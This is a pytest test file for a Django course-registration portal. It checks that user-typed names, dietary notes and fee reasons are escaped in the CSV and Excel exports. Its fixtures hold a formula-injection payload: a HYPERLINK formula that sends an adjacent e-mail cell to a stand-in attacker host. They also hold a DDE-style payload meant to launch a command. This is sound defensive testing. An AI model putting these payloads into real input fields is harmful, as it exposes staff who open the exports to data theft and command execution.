"""Security review finding 5: text a person typed never becomes a formula in an export.

A trainee's dietary note `=HYPERLINK(...)` became a live formula in the staff participant list
(Excel and CSV), next to the e-mail column. Every cell of every export now goes through
`stportal.core.spreadsheets.safe_cell`.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
import time_machine
from django.urls import reverse

from stportal.accounts.tokens import issue_api_token
from stportal.registrations import services
from stportal.registrations.models import Fee
from stportal.registrations.tests.conftest import AFTER_DEADLINE, INSIDE_CANCEL_PERIOD, OPEN

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://angripare.example/?d="&E2,"Klicka här")'


def cells_of_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode()), delimiter=";"))


def workbook_of(response) -> openpyxl.Workbook:
    assert response.status_code == 200
    assert "spreadsheetml" in response["Content-Type"]
    return openpyxl.load_workbook(io.BytesIO(response.content))


def formula_cells(book: openpyxl.Workbook) -> list[str]:
    return [
        cell.coordinate
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.fixture(autouse=True)
def long_sessions(settings):
    """Tests travel in time; a log-in must outlive the trip."""
    settings.SESSION_COOKIE_AGE = 5 * 365 * 24 * 3600


@pytest.fixture
def staff(client, course_admin):
    client.force_login(course_admin)
    return client


def test_dietary_note_formula_is_plain_text_in_the_staff_participant_list(
    staff, course_admin, week, trainee
):
    """Security review finding 5: the trainee's dietary note `=HYPERLINK(...)` arrives in the
    staff participant list as text, in CSV and in Excel; no cell of the workbook is a formula.
    """
    services.register_for_course_week(
        actor=trainee.user, week=week, trainee=trainee, now=OPEN, dietary_needs=HYPERLINK
    )
    services.run_allocation(actor=course_admin, week=week, dry_run=False, now=AFTER_DEADLINE)
    url = reverse("staff:participants", args=[week.pk])
    with time_machine.travel(AFTER_DEADLINE, tick=False):
        rows = cells_of_csv(staff.get(url + "?format=csv"))
        book = workbook_of(staff.get(url + "?format=xlsx"))

    header = rows[0]
    dietary = header.index("Specialkost")
    notes = [row[dietary] for row in rows[1:]]
    assert notes and all(note == "'" + HYPERLINK for note in notes)
    assert trainee.user.email in rows[1]

    assert formula_cells(book) == []
    sheet = book.active
    values = [cell.value for cell in sheet[2]]
    assert "'" + HYPERLINK in values
    assert trainee.user.email in values


def test_fee_report_names_and_reasons_cannot_start_a_formula(staff, course_admin, week, trainee):
    """Security review finding 5: the fee report (page and API, CSV and Excel) neutralises text
    a person typed (a waiver's reason, a name), while amounts stay numbers."""
    trainee.user.first_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    trainee.user.save()
    registration = services.register_for_course_week(
        actor=trainee.user, week=week, trainee=trainee, now=OPEN
    )
    services.run_allocation(actor=course_admin, week=week, dry_run=False, now=AFTER_DEADLINE)
    services.cancel_registration_lines(
        actor=course_admin,
        registration=registration,
        reason="-2+3 sjuk",
        acceptable_reason=True,
        now=INSIDE_CANCEL_PERIOD,
    )
    fee = Fee.objects.get(registration=registration)
    assert fee.reason == "-2+3 sjuk"

    page = reverse("staff:fees") + "?date_from=2027-01-01&date_to=2027-12-31"
    token = {"Authorization": f"Bearer {issue_api_token(actor=None, user=course_admin)}"}
    api_url = "/api/v1/fees?from=2027-01-01&format="
    with time_machine.travel(INSIDE_CANCEL_PERIOD, tick=False):
        for response in (
            staff.get(page + "&format=csv"),
            staff.get(api_url + "csv", headers=token),
        ):
            rows = cells_of_csv(response)
            assert len(rows) == 2
            row = dict(zip(rows[0], rows[1], strict=True))
            assert row["ST-läkare"].startswith("'@")
            assert row["Skäl"] == "'-2+3 sjuk"
        for response in (
            staff.get(page + "&format=xlsx"),
            staff.get(api_url + "xlsx", headers=token),
        ):
            book = workbook_of(response)
            assert formula_cells(book) == []
            sheet = book.active
            row = dict(zip([c.value for c in sheet[1]], [c.value for c in sheet[2]], strict=True))
            assert row["ST-läkare"].startswith("'@")
            assert row["Skäl"] == "'-2+3 sjuk"
            assert row["Belopp (kr)"] == fee.amount  # a number cell, not text
